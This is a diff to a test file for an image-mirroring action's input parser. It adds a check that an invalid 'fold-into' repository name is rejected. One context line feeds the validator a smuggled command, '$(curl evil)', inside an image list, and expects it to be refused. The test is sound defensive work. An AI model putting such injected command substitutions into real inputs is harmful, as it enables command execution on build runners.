@@ -220,6 +220,19 @@ describe('getInputs: an image list (source empty)', () => {
     expect(two.mirrors!.every((m) => m.options.stateFile === two.options.stateFile)).toBe(true)
   })
 
+  it('refuses a bad fold-into naming the input, given alone or beside a config', async () => {
+    const message = /^Input error: fold-into "Images": not a repository name/
+    expect(() => read({ target: 'ghcr.io/me', images: 'nginx', 'fold-into': 'Images' })).toThrow(message)
+    const config = await import('../../sync/options/config-file')
+    // The fold-into input stays; the config names the target and the images.
+    delete process.env['INPUT_TARGET']
+    delete process.env['INPUT_IMAGES']
+    process.env['INPUT_CONFIG'] = 'mirrors:\n  - {target: ghcr.io/me, images: [nginx]}\n'
+    expect(() => getInputs({ RUNNER_TEMP: '/runner/temp', HOME: '/home/runner' }, config)).toThrow(
+      /^Input error: config \(inline\), mirror 1: fold-into "Images": not a repository name/
+    )
+  })
+
   it('refuses a bad entry naming the input', () => {
     expect(() => read({ target: 'ghcr.io/me', images: 'nginx:1.25\n$(curl evil)' })).toThrow(/^Input error: images "\$\(curl evil\)"/)
   })
